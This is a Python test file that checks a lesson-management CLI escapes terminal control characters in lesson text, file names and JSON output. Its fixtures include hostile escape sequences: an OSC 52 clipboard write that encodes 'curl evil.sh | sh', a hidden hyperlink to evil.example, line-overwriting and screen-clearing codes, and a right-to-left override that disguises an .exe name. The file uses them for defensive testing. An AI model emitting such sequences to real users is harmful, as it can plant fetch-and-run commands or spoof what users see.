"""Terminal escapes from lesson text, file names and drift values are shown, never run."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from reasonlessons.safety.terminal import json_bytes, visible, visible_styled
from tests.invoke import Invoke

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes the clipboard
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # a hidden hyperlink
HOSTILE = [OSC52, OSC8, "\x1b[2J\x1b[H", "\x9b31m", "\r\x1b[Kfake line", "\u202egnp.exe", "a\u200bb", "\x7f"]
RAW = ["\x1b", "\x9b", "\x07", "\u202e", "\u200b", "\x7f", "\r"]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_control_character_is_shown_as_its_escape(text: str) -> None:
    shown = visible(text)
    assert not any(c in shown for c in RAW)
    assert "\\" in shown


def test_line_breaks_tabs_and_ordinary_unicode_stay() -> None:
    text = "- Run `npm test`\n\tthen café, 日本語, ✓"
    assert visible(text) == text


def test_json_output_escapes_what_encoders_leave_raw() -> None:
    doc = {"name": "x", "text": "\x9b31m \u202e \u200b \x7f \U000e0041 ok é"}
    raw = json.dumps(doc, ensure_ascii=False).encode()
    safe = json_bytes(raw)
    assert json.loads(safe) == doc  # the same document
    assert not any(c.encode() in safe for c in ["\x9b", "\u202e", "\u200b", "\x7f", "\U000e0041"])
    assert "é".encode() in safe


def _lesson(root: Path, name: str, description: str, body: str) -> None:
    (root / ".reasonix" / "lessons" / f"{name}.md").write_text(
        f"---\nname: {name}\ndescription: {json.dumps(description)}\n"
        "fingerprint: [package.json#scripts.test]\n"
        f"captured-at: 2026-05-05\nfingerprint-recorded:\n  package.json#scripts.test: sha256:0\n"
        f"triggers:\n  files: ['tests/**']\n---\n{body}\n"
    )


def test_every_human_output_shows_escapes_from_lesson_text_and_file_names(
    make_repo: Callable[[str], Path], cli_invoke: Invoke
) -> None:
    repo = make_repo("recall-ts")
    _lesson(repo, "clip", f"Testing tips {OSC52}", f"- use vitest {OSC8}\n- {HOSTILE[4]}\n- {HOSTILE[5]}")
    bad = repo / ".reasonix" / "lessons" / "bad\x1b]52;c;ZXZpbA==\x07.md"
    bad.write_text("not a lesson")
    outputs = [
        cli_invoke("list", "--repo", repo, expect=None),
        cli_invoke("show", "clip", "--repo", repo, expect=None),
        cli_invoke("stale", "--repo", repo, expect=None),
        cli_invoke("validate", "--repo", repo, expect=None),
        cli_invoke(
            "recall", "testing tips vitest", "--files", "tests/a.test.ts", "--repo", repo, expect=None
        ),
        cli_invoke("trust", "clip", "--repo", repo, expect=None),
        cli_invoke("show", "bad\x1b", "--repo", repo, expect=None),
    ]
    for out in outputs:
        for stream in (out.stdout, out.stderr):
            assert not any(c in stream for c in RAW), (out, stream)
    assert "\\x1b]52" in outputs[1].stdout  # shown, so a reader sees what the file holds
    assert "\\x1b]52" in outputs[3].stderr  # the file name too


def test_json_outputs_escape_control_characters(make_repo: Callable[[str], Path], cli_invoke: Invoke) -> None:
    repo = make_repo("recall-ts")
    _lesson(repo, "clip", f"Testing tips {OSC52} \x9b1m \u202e", f"- use vitest {OSC8}")
    for args in (["list", "--json"], ["show", "clip", "--json"], ["stale", "--json"], ["validate", "--json"]):
        out = cli_invoke(*args, "--repo", repo, expect=None)
        assert not any(c in out.stdout for c in RAW), args
        json.loads(out.stdout)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_on_a_colour_terminal_only_our_own_colours_are_kept(hostile: str) -> None:
    ours = "\x1b[32mactive\x1b[0m"
    shown = visible_styled(f"{ours}  {hostile}")
    assert shown.startswith(ours)
    rest = shown[len(ours) :]
    assert not any(c in rest for c in RAW), repr(rest)
